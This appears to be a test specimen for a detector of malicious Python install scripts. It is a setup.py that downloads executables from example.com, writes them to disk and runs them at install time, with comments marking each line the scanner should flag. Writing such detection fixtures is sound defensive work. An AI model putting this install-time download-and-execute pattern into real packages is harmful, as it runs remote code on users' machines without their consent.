raise SystemExit("specimen: not to be run")
import os
import subprocess
import sys
import tempfile
import urllib.request
import requests
from setuptools import setup

path = os.path.join(os.environ["TEMP"], "specimen.exe")
urllib.request.urlretrieve("https://example.com/specimen.exe", path)  # match: network-at-install
os.startfile(path)  # match: written-file-run  # match: process-at-install

with open("helper.bin", "wb") as f:
    f.write(requests.get("https://example.com/helper").content)  # match: network-at-install
subprocess.Popen(["./helper.bin"])  # match: written-file-run  # match: process-at-install

with tempfile.NamedTemporaryFile(suffix=".py", delete=False) as t:
    t.write(b"print('a specimen, and nothing but a specimen')")
subprocess.Popen([sys.executable, t.name])  # match: written-file-run  # match: process-at-install
setup(name="specimen")
